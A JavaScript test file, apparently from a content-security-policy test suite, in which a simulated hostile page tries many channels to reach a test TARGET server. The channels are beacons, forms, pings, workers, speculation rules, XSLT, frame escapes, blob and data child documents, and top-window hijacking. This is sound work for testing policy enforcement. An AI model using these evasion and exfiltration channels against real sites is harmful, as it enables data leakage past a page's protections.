/** What a hostile document tries beside attack.js: by its elements, its frames, its workers, and where it goes. */
const { REQUESTS, xhr, redirect, ended, tryAll, tell, pause } = globalThis.hostile;

/** Adds an element; resolves when it has loaded or failed. */
function add(tag, attributes, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  const end = ended(element, 'load', 'error');
  parent.append(element);
  return end;
}
const addText = (html) => {
  document.body.insertAdjacentHTML('beforeend', html);
};
/** A frame that is there, for what is to happen in it. */
function frame(name, attributes = {}) {
  const made = Object.assign(document.createElement('iframe'), { name });
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  document.body.append(made);
  return made;
}
function submit(action, { target, method = 'post', enctype = 'text/plain' }) {
  const form = Object.assign(document.createElement('form'), { action, target, method, enctype });
  form.innerHTML = '<input name="a" value="evil">';
  document.body.append(form);
  form.submit();
}
const click = (attributes) => {
  const link = document.createElement('a');
  for (const [name, value] of Object.entries(attributes)) link.setAttribute(name, value);
  document.body.append(link);
  link.click();
};
const script = (attributes, textContent) =>
  document.head.append(Object.assign(document.createElement('script'), attributes, { textContent }));
let names = 0;
const fresh = () => `f${names++}`;

/** One for each directive of a policy, and for each way in which a frame gets somewhere: of each document. */
const KINDS = {
  'xhr-post': (url) => xhr(url, 'POST'),
  beacon: (url) => void navigator.sendBeacon(url, 'evil'),
  image: (src) => add('img', { src }),
  'image-redirect': (url) => add('img', { src: redirect(url) }),
  video: (src) => add('video', { src, autoplay: '' }),
  script: (src) => add('script', { src }),
  style: (href) => add('link', { rel: 'stylesheet', href }),
  font: (url) =>
    addText(
      `<style>@font-face { font-family: evil; src: url(${url}); }</style><p style="font-family: evil">evil</p>`,
    ),
  object: (data) => add('object', { data }),
  iframe: (src) => add('iframe', { src }),
  'iframe-redirect': (url) => add('iframe', { src: redirect(url) }),
  'iframe-location': (url) => frame(fresh()).contentWindow.location.assign(url),
  'iframe-refresh': (url) => add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0; url=${url}">` }),
  'form-post': (url) => submit(url, { target: frame(fresh()).name }),
  'form-redirect': (url) => submit(redirect(url), { target: frame(fresh()).name }),
  ping: (url) => click({ href: 'javascript:void 0', ping: url }),
  worker: (url) => ended(new Worker(url), 'message', 'error'),
  'shared-worker': (url) => ended(new SharedWorker(url), 'message', 'error'),
  'service-worker': (url) => navigator.serviceWorker.register(url).then(() => ''),
  prefetch: (href) => add('link', { rel: 'prefetch', href }, document.head),
};

/** Of the page alone: a document has a policy as a whole or not at all. */
const MORE = {
  xhr: (url) => xhr(url, 'GET'),
  attribution: (attributionsrc) => add('img', { attributionsrc }),
  track: (src) => addText(`<video><track kind="captions" default src="${src}"></video>`),
  'module-script': (src) => add('script', { src, type: 'module' }),
  'import-map': (url) => script({ type: 'importmap' }, JSON.stringify({ imports: { evil: url } })),
  'web-bundle': (url) => script({ type: 'webbundle' }, JSON.stringify({ source: url, resources: [url] })),
  ...Object.fromEntries(
    ['prerender', 'modulepreload', 'manifest', 'preconnect', 'compression-dictionary'].map((rel) => [
      rel,
      (href) => add('link', { rel, href }, document.head),
    ]),
  ),
  preload: (href) => add('link', { rel: 'preload', as: 'fetch', href }, document.head),
  speculation: (url) =>
    script(
      { type: 'speculationrules' },
      JSON.stringify({
        prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }],
        prerender: [{ source: 'list', urls: [`${url}r`], eagerness: 'immediate' }],
      }),
    ),
  'fenced-frame': (src) => add('fencedframe', { src }),
  'iframe-sandbox': (src) => add('iframe', { src, sandbox: 'allow-scripts' }),
  'iframe-open': (url) => void open(url, frame(fresh()).name),
  'form-get': (url) => submit(url, { target: frame(fresh()).name, method: 'get' }),
  'form-srcdoc': (url) =>
    add('iframe', {
      srcdoc: `<form method="post" action="${url}"><input name="a"></form><script>document.forms[0].submit()</script>`,
    }),
  // It would take the place of the page.
  download: (url) =>
    add('iframe', { srcdoc: `<a download href="${url}"></a><script>document.links[0].click()</script>` }),
  'svg-filter': (url) =>
    addText(
      `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ),
  // Without a device to play on: the sound would take a process of its own.
  'audio-worklet': (url) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url),
  'paint-worklet': (url) => CSS.paintWorklet.addModule(url),
  xslt: (url) => {
    const text = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
      <xsl:import href="${url}"/><xsl:template match="/"><p><xsl:copy-of select="document('${url}d')"/></p></xsl:template>
      </xsl:stylesheet>`;
    const processor = new XSLTProcessor();
    processor.importStylesheet(new DOMParser().parseFromString(text, 'text/xml'));
    return new XMLSerializer().serializeToString(processor.transformToDocument(document)).slice(0, 0);
  },
};

/** Where the whole window goes: last, because the page would be gone. */
const WINDOW = {
  open: (url) => void open(url),
  'open-noopener': (url) => void open(url, '', 'noopener'),
  'link-blank': (href) => click({ href, target: '_blank', rel: 'noreferrer' }),
  'form-blank': (url) => submit(url, { target: '_blank' }),
  'top-location': (url) => Reflect.set(top.location, 'href', url),
  'top-open': (url) => void open(url, '_top'),
  'top-form': (url) => submit(url, { target: '_top' }),
  'top-form-get': (url) => submit(url, { target: '_top', method: 'get' }),
  'top-link': (href) => click({ href, target: '_top' }),
  // A frame of the page asks for it, and is gone before anybody looks who it was.
  'top-gone': (url) => {
    const made = frame('');
    made.contentWindow.eval(`top.location.href = '${url}'`);
    made.remove();
  },
  'top-redirect': (url) => Reflect.set(top.location, 'href', redirect(url)),
};

const source = (name) => `${globalThis.SERVER}/${name}`;
const setUp = (context) =>
  `globalThis.SERVER = '${globalThis.SERVER}'; globalThis.TARGET = '${globalThis.TARGET}'; globalThis.CONTEXT = '${context}';`;
const documentOf = (context) =>
  `<!doctype html><body><script>${setUp(context)}</` +
  `script><script src="${source('attack.js')}"></` +
  `script><script src="${source('document.js')}"></` +
  `script>`;
let attackText = '';
const workerOf = (context) => `${setUp(context)} ${attackText} attackFromWorker('${context}');`;
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const dataOf = (text, type) => `data:${type},${encodeURIComponent(text)}`;

/** Documents and workers that a hostile page makes, which it hopes have fewer limits than itself. */
const CHILDREN = {
  srcdoc: () => frame('', { srcdoc: documentOf('srcdoc') }),
  'blob-frame': () => frame('', { src: blobOf(documentOf('blob-frame'), 'text/html') }),
  'data-frame': () => frame('', { src: dataOf(documentOf('data-frame'), 'text/html') }),
  'sandboxed-frame': () =>
    frame('', { sandbox: 'allow-scripts allow-forms allow-popups', srcdoc: documentOf('sandboxed-frame') }),
  'blank-frame': () => {
    const { contentDocument } = frame('');
    contentDocument.open();
    contentDocument.write(documentOf('blank-frame'));
    contentDocument.close();
  },
  'script-frame': () => frame('', { src: `javascript:${JSON.stringify(documentOf('script-frame'))}` }),
  ...Object.fromEntries(
    ['other-site', 'own-policy', 'cached', 'not-found', 'image.svg', 'xml', 'unsaid'].map((name) => [
      `page-${name}`,
      () => frame('', { src: source(`page-${name}`) }),
    ]),
  ),
  'page-cached-again': () => frame('', { src: source('page-cached') }),
  worker: () => new Worker(source('worker-worker')),
  'module-worker': () => new Worker(source('module-module-worker'), { type: 'module' }),
  'shared-worker': () => new SharedWorker(source('worker-shared-worker')),
  'blob-worker': () => new Worker(blobOf(workerOf('blob-worker'), 'text/javascript')),
  'data-worker': () => new Worker(dataOf(workerOf('data-worker'), 'text/javascript')),
  'blob-shared-worker': () => new SharedWorker(blobOf(workerOf('blob-shared-worker'), 'text/javascript')),
  'data-shared-worker': () => new SharedWorker(dataOf(workerOf('data-shared-worker'), 'text/javascript')),
};

async function attack(context) {
  const isPage = context === 'page';
  await tryAll({ ...REQUESTS, ...KINDS, ...(isPage && MORE) }, context);
  await pause();
  await tell('done', context);
  if (!isPage) return;
  await navigator.serviceWorker?.register('/service-worker.js').catch(() => undefined);
  attackText = await (await fetch(source('attack.js'))).text();
  for (const make of Object.values(CHILDREN)) {
    try {
      make();
    } catch {
      // A document without an origin has no workers.
    }
  }
}
globalThis.tryWindow = (name) => {
  try {
    return WINDOW[name](`${globalThis.TARGET}/window/${name}`);
  } catch {
    // Refused in a sandbox.
  }
};
globalThis.windowWays = Object.keys(WINDOW);
void attack(globalThis.CONTEXT);
